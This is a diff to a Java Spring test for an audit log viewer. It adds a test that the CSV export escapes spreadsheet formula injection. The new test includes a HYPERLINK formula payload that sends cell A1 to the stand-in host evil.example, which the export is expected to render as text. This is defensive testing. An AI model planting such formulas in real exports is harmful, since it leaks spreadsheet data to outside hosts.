@@ -4,12 +4,18 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
 
+import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
+import java.util.List;
+
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 
 import org.gongkai.support.GongkaiTest;
 import org.gongkai.support.Sessions;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.context.ApplicationEventPublisher;
 import org.springframework.test.web.servlet.MockMvc;
 
 /** The audit viewer and its CSV export, for those who may read the log and for no one else. */
@@ -18,6 +24,9 @@ class AuditConsoleTest {
 
 	@Autowired
 	MockMvc mvc;
+
+	@Autowired
+	ApplicationEventPublisher events;
 
 	@Test
 	void theDisclosureOfficeFiltersTheLogByActorAndAction() throws Exception {
@@ -39,6 +48,20 @@ class AuditConsoleTest {
 		assertThat(csv).startsWith("\uFEFFid,time,actor,unit,action");
 		assertThat(csv.lines().skip(1)).allMatch(line -> line.contains("staff.created"));
 		assertThat(csv).contains("created office in 办公室");
+	}
+
+	@Test
+	void textThatASpreadsheetWouldRunAsAFormulaIsExportedAsText() throws Exception {
+		String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
+		events.publishEvent(AuditEvent.of("test.formula", "Document", 42, title));
+		events.publishEvent(AuditEvent.of("test.formula", "Document", 43, "\t+1-2"));
+		String csv = mvc.perform(get("/admin/audit/export.csv").param("action", "test.formula")
+			.with(Sessions.admin(mvc))).andExpect(status().isOk()).andReturn().getResponse()
+			.getContentAsString(StandardCharsets.UTF_8);
+		List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
+			.parse(new StringReader(csv.substring(1))).getRecords();
+		assertThat(rows).extracting(row -> row.get("summary")).containsExactly("'" + title, "'\t+1-2");
+		assertThat(rows).extracting(row -> row.get("id")).allMatch(id -> id.matches("\\d+"));
 	}
 
 	@Test
